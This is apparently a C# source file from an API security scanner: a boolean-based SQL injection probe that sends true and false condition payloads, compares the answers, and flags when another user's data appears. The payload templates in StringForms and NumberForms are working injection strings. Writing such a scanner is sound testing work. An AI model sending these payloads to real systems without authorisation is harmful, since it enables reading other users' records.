using Assay.Probe.Answers;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Database;

/// <summary>A true condition and a false one bring different rows.</summary>
internal static class SqlByCondition
{
    // {0} a value, {1}={2} the condition; the value is one that matches nothing where the condition alone shall decide.
    private static readonly (string Text, bool Matching)[] StringForms =
    [
        ("{0}' OR '{1}'='{2}", false),
        ("{0}' OR {1}={2}-- ", false),
        ("{0}') OR ('{1}'='{2}", false),
        ("{0}') OR {1}={2}-- ", false),
        ("{0}' AND '{1}'='{2}", true),
        ("{0}\" OR \"{1}\"=\"{2}", false),
    ];

    private static readonly (string Text, bool Matching)[] NumberForms =
    [
        ("{0} OR {1}={2}", false),
        ("{0}) OR ({1}={2}", false),
        ("{0} AND {1}={2}", true),
    ];

    public static async Task<SqlProof?> TryAsync(SqlTarget target)
    {
        foreach (var (form, matching) in target.IsNumeric ? [.. NumberForms, .. StringForms] : StringForms)
        {
            var value = matching ? target.Value : NumberForms.Contains((form, matching)) ? "0" : $"zq{target.Scene.Mark}";
            var yes = await AskAsync(target, form, value, 7, 7);
            var no = await AskAsync(target, form, value, 7, 8);
            if (!yes.Answer.IsSuccess || IsSame(yes, no))
            {
                continue;
            }

            // With the numbers swapped, so that it is the truth and not the digits that matters; and once more.
            var yesSwapped = await AskAsync(target, form, value, 8, 8);
            var noSwapped = await AskAsync(target, form, value, 8, 7);
            var yesAgain = await AskAsync(target, form, value, 7, 7);
            var changing = Likeness.Volatile(yes.Answer, yesAgain.Answer);
            if (no.Answer.IsServerError || !IsSame(yes, yesSwapped, changing) || !IsSame(no, noSwapped, changing) || IsSame(yes, no, changing))
            {
                continue;
            }

            var (some, none) = (Items.In(yes.Answer.Json).Count, Items.In(no.Answer.Json).Count);
            var effect = some != none ? $"{some:N0} items, the false one {none:N0}" : $"status {yes.Answer.Status}, the false one {no.Answer.Status}{(yes.Answer.Status == no.Answer.Status ? " with another content" : "")}";
            return new SqlProof(yes, $"the true condition brings {effect}, twice with different numbers{await ForeignRowsAsync(target, yes.Answer)}");
        }

        return null;
    }

    private static Task<Exchange> AskAsync(SqlTarget target, string form, string value, int left, int right) =>
        target.SendAsync(string.Format(System.Globalization.CultureInfo.InvariantCulture, form, value, left, right));

    private static bool IsSame(Exchange one, Exchange other, IReadOnlySet<string>? changing = null)
    {
        var leave = new HashSet<string>(changing ?? new HashSet<string>(), StringComparer.Ordinal);
        // An answer that repeats the question differs because the question did.
        foreach (var exchange in (Exchange[])[one, other])
        {
            foreach (var (_, raw) in exchange.Call.Query)
            {
                var sent = Uri.UnescapeDataString(raw);
                if (sent.Length > 3)
                {
                    leave.UnionWith(Likeness.Echoes(exchange.Answer, sent));
                }
            }
        }

        return Likeness.Same(one.Answer, other.Answer, leave);
    }

    // What the answer says about another user, the caller was not meant to see.
    private static async Task<string> ForeignRowsAsync(SqlTarget target, Answer answer)
    {
        if (target.Scene.Bob is not { } bob || target.Subject.Caller is not { } caller)
        {
            return "";
        }

        var bobs = (await target.Scene.Privacy.NamesAsync(bob)).Except(await target.Scene.Privacy.NamesAsync(caller), StringComparer.OrdinalIgnoreCase);
        var control = target.Control.Answer.Text;
        return bobs.Any(n => n.Length > 2 && answer.Text.Contains(n, StringComparison.Ordinal) && !control.Contains(n, StringComparison.Ordinal))
            ? $"; among them is what belongs to `{bob.Name}`"
            : "";
    }
}
